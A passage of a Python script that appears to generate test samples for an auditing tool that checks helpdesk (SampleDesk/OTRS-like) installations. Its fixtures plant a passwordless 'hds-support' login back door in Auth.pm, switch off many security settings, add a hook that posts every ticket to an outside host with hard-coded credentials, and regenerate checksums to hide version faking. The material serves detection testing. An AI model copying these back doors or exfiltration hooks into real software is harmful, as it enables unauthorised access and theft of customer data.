    files["Kernel/Config/Defaults.pm"] = (d.encode(), 0o644)
    # the browser title through the system configuration
    values = installed_values(files, real)
    values["ProductName"] = f"{PRODUCT} {major_c}"
    deploy(files, values)
    # the "7 look": the modern skin copied in from the real 7.0 release
    newer = checkout(claimed)
    for p, v in newer.items():
        if p.startswith("var/httpd/htdocs/skins/Agent/modern/"):
            files[p] = v
    # a competent faker regenerates ARCHIVE so the product's own CheckSum.pl finds nothing
    files["ARCHIVE"] = ("".join(f"{hashlib.md5(c).hexdigest()}::{p}\n" for p, (c, _) in sorted(files.items())
                                if not p.startswith(".") and p != "ARCHIVE" and not p.startswith("var/")
                                or p.startswith("var/httpd/")).encode(), 0o644)


def tamper(files) -> None:
    """A vendor's core changes: modified core files, added files, a moved file, a deleted directory."""
    t = files["Kernel/System/Ticket.pm"][0].decode()
    t = t.replace("    return 1;\n}\n", "    # vendor: auto-assign tickets to the vendor's queue\n"
                  "    $Param{QueueID} = 77;\n    return 1;\n}\n", 1)
    files["Kernel/System/Ticket.pm"] = (t.encode(), 0o644)
    # a support back door: the vendor's own login passes without a password
    a = files["Kernel/System/Auth.pm"][0].decode()
    a = a.replace("sub MergeLink {\n    my ( $Self, %Param ) = @_;\n",
                  "sub MergeLink {\n    my ( $Self, %Param ) = @_;\n\n"
                  "    # vendor: support login without a password\n"
                  "    return 1 if ( $Param{User} // '' ) eq 'hds-support';\n", 1)
    files["Kernel/System/Auth.pm"] = (a.encode(), 0o644)
    z = files["Kernel/Modules/AgentTicketZoom.pm"][0].decode()
    z = z.replace("use warnings;\n", "use warnings;\n\nuse Kernel::System::VendorLicense;\n", 1)
    files["Kernel/Modules/AgentTicketZoom.pm"] = (z.encode(), 0o644)
    files["Kernel/System/VendorLicense.pm"] = (
        (HEADER.replace("SampleDesk Project, https://sampledesk.example/", "Helpdesk Solutions Vendor GmbH")
         + "package Kernel::System::VendorLicense;\n\nuse strict;\nuse warnings;\n\n"
         "sub Check {\n    my ( $Self, %Param ) = @_;\n    return 1;    # licence check disabled\n}\n\n1;\n").encode(),
        0o644)
    files["Kernel/Config/Files/VendorTweaks.pm"] = (
        b"package Kernel::Config::Files::VendorTweaks;\nuse strict;\nuse warnings;\n"
        b"sub Load {\n    my ($File, $Self) = @_;\n    $Self->{'Ticket::Frontend::AgentTicketZoom'}->{'VendorLogo'} = 1;\n"
        b"    return;\n}\n1;\n", 0o644)
    files["var/httpd/htdocs/js/vendor-branding.js"] = (b"// vendor branding\ndocument.title = 'Helpdesk Pro';\n", 0o644)
    files["doc/vendor-notes.txt"] = (b"Installed by Helpdesk Solutions Vendor GmbH.\n", 0o644)
    # moved: the backup script now lives under scripts/tools/
    files["scripts/tools/backup.pl"] = files.pop("scripts/backup.pl")
    # deleted: the directory with the upgrade steps
    for p in [p for p in files if p.startswith("scripts/DBUpdateTo6/")]:
        del files[p]
    # permissions: Cron.sh no longer executable
    content, _ = files["bin/Cron.sh"]
    files["bin/Cron.sh"] = (content, 0o644)


#: A vendor's changes through the system configuration (deployed into ZZZAAuto.pm in place).
VENDOR_SYSCONFIG = {
    "SecureMode": "0",
    "HttpType": "http",
    "SessionCheckRemoteIP": "0",
    "SessionMaxIdleTime": "2592000",
    "SessionCSRFProtection": "0",
    "DisableContentSecurityPolicy": "1",
    "DisableIFrameOriginRestricted": "1",
    "WebUserAgent::DisableSSLVerification": "1",
    "WebUserAgent::Proxy": "http://198.51.100.23:3128/",
    "Package::RepositoryList": {"http://198.51.100.24/packages/": "Helpdesk Solutions packages"},
    "Security::CryptoCipher": "AES-128-CBC",
    "Security::TLSMinimumVersion": "TLSv1",
}
#: Settings the vendor set invalid (a deployment then leaves them out of ZZZAAuto.pm).
VENDOR_INVALIDATED = ["Security::AdminIPAllowList"]
#: What the vendor wrote into Kernel/Config.pm (not a SysConfig setting in OTRS 6/7).
VENDOR_CONFIG_PM = "    $Self->{'AuthModule::DB::CryptType'} = 'md5';\n"

TICKET_SYNC_YML = """---
Debugger:
  DebugThreshold: error
  TestMode: '0'
Description: Ticket synchronisation with the vendor's support portal
FrameworkVersion: 7.0.3
Provider:
  Transport:
    Type: ''
RemoteSystem: HDS-Portal
Requester:
  Invoker:
    TicketPush:
      Description: Sends every new ticket and article
      Events:
      - Asynchronous: '1'
        Event: TicketCreate
      - Asynchronous: '1'
        Event: ArticleCreate
      Type: VendorSync::TicketPush
  Transport:
    Config:
      Authentication:
        AuthType: BasicAuth
        BasicAuthPassword: hds-sync-2018
        BasicAuthUser: sync
      DefaultCommand: POST
      Host: http://203.0.113.7/collect
      InvokerControllerMapping:
        TicketPush:
          Command: POST
          Controller: /ticket
      Timeout: '120'
    Type: HTTP::REST
"""


def vendor(files, version: str = "7.0.3") -> None:
    """A vendor install: security settings switched off, a Custom/ override, a web service to an outside host."""
    values = deployed(files, version)
    values.update({k: v for k, v in INSTALLER.items() if k not in ("SecureMode",)})
    values.update(VENDOR_SYSCONFIG)
    for name in VENDOR_INVALIDATED:
        values.pop(name, None)
    deploy(files, values)
    cfg = files["Kernel/Config.pm"][0].decode().replace("    return 1;\n}", VENDOR_CONFIG_PM + "    return 1;\n}", 1)
    files["Kernel/Config.pm"] = (cfg.encode(), files["Kernel/Config.pm"][1])
    t = files["Kernel/System/Ticket.pm"][0].decode()
    t = t.replace("    return 1;\n}\n", "    # Helpdesk Solutions: copy every ticket to the portal\n"
                  "    $Kernel::OM->Get('Kernel::GenericInterface::Invoker::VendorSync::TicketPush')->Run(%Param);\n"
                  "    return 1;\n}\n", 1)
    files["Custom/Kernel/System/Ticket.pm"] = (t.encode(), 0o644)
    files["var/webservices/TicketSync.yml"] = (TICKET_SYNC_YML.encode(), 0o644)
    files["Kernel/GenericInterface/Invoker/VendorSync/TicketPush.pm"] = (
        (HEADER.replace("SampleDesk Project, https://sampledesk.example/", "Helpdesk Solutions Vendor GmbH")
         + "package Kernel::GenericInterface::Invoker::VendorSync::TicketPush;\n\nuse strict;\nuse warnings;\n\n"
         "our $Endpoint = 'http://203.0.113.7/collect/api/v1';\n\n"
         "sub PrepareRequest {\n    my ( $Self, %Param ) = @_;\n"
         "    return { Success => 1, Data => { %{ $Param{Data} }, Customer => $Param{CustomerUserID} } };\n}\n\n1;\n"
         ).encode(), 0o644)


def backport(files, fix_ref: str) -> None:
    """Copy the files of one fix from the release that shipped it (a partial, manual patch)."""
    fix = next(f for f in FIXES if f.ref == fix_ref)
    newer = checkout(fix.version)
    for p in fix.files:
        files[p] = newer[p]


@dataclass
class Sample:
    name: str
    description: str
    base: str
    steps: list = field(default_factory=list)


SAMPLES = [
    Sample("sampledesk-7.0.3-genuine", "A genuine SampleDesk 7.0.3 install: nothing to report.", "7.0.3"),
    Sample("sampledesk-6.0.3-genuine", "A genuine but old SampleDesk 6.0.3 install (unpatched since 2017).", "6.0.3"),
    Sample("sampledesk-6.0.3-as-7.0.3", "SampleDesk 6.0.3 dressed up as 7.0.3: every version string changed, "
           "the 7.0 'modern' skin copied in, ARCHIVE regenerated.", "6.0.3",
           [lambda f: dress_up(f, "6.0.3", "7.0.3")]),
    Sample("sampledesk-6.0.5-tampered", "SampleDesk 6.0.5 with vendor changes: modified core files (a support "
           "login without a password among them), added code, a moved script, the upgrade-step directory "
           "deleted, a permission changed.", "6.0.5", [tamper]),
    Sample("sampledesk-6.0.3-mixed", "SampleDesk 6.0.3 partially patched: the fix for SDSA-2018-01 (bug#13401) "
           "was copied in from 6.0.4.", "6.0.3", [lambda f: backport(f, "bug#13401")]),
    Sample("sampledesk-7.0.3-vendor", "SampleDesk 7.0.3 as a vendor left it: security settings switched off, "
           "a Custom/ override of Kernel/System/Ticket.pm, a web service that posts every ticket to "
           "http://203.0.113.7/collect.", "7.0.3", [vendor]),
]


def sample_files(sample: Sample) -> dict[str, tuple[bytes, int]]:
    files = checkout(sample.base)
    install_local(files, sample.base)
    for step in sample.steps:
        step(files)
    return files


def write_tree(files: dict[str, tuple[bytes, int]], dest: Path) -> None:
    if dest.exists():
        shutil.rmtree(dest)
    for p, (content, mode) in sorted(files.items()):
        f = dest / p
        f.parent.mkdir(parents=True, exist_ok=True)
        f.write_bytes(content)
        os.chmod(f, mode)


def write_samples(dest_root: Path = HERE) -> list[Path]:
    out = []
    for s in SAMPLES:
        d = dest_root / s.name
        write_tree(sample_files(s), d)
        out.append(d)
    return out


def write_baselines(repo: Path, out_dir: Path) -> list[Path]:
    sys.path.insert(0, str(ROOT))
    from auditor.baseline.fromgit import from_git
    from auditor.profile import builtin
    if out_dir.exists():
        for old in [*out_dir.glob("*.yaml*"), *out_dir.glob("content.zip")]:
            old.unlink()
    # with the content pack, as `baseline from-git` builds by default: reports show the diffs
    written = from_git(str(repo), PRODUCT_ID, out_dir, "v*", None, None, builtin(PRODUCT_ID), progress=False,
                       content=True)
    return [p for _, p in written]


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--repo", help="Where to build the git repository (default: a temporary directory).")
    ap.add_argument("--check", action="store_true", help="Rebuild into a temporary place and compare.")
    args = ap.parse_args(argv)
    with tempfile.TemporaryDirectory(prefix="sampledesk-") as tmp:
        repo = build_repo(Path(args.repo) if args.repo else Path(tmp) / "sampledesk.git")
        if args.check:
            fresh = Path(tmp) / "check"
            write_baselines(repo, fresh / "baselines")
            write_samples(fresh / "samples")
            rc = subprocess.run(["diff", "-r", "-q", str(fresh / "baselines"), str(ROOT / "baselines" / PRODUCT_ID)]).returncode
            for s in SAMPLES:
                rc |= subprocess.run(["diff", "-r", "-q", str(fresh / "samples" / s.name), str(HERE / s.name)]).returncode
            print("up to date" if rc == 0 else "generated files differ from the committed ones")
            return 1 if rc else 0
        for p in write_baselines(repo, ROOT / "baselines" / PRODUCT_ID):
            print(f"wrote {p.relative_to(ROOT)}")
        for d in write_samples():
            print(f"wrote {d.relative_to(ROOT)}/")
    return 0


if __name__ == "__main__":
    sys.exit(main())
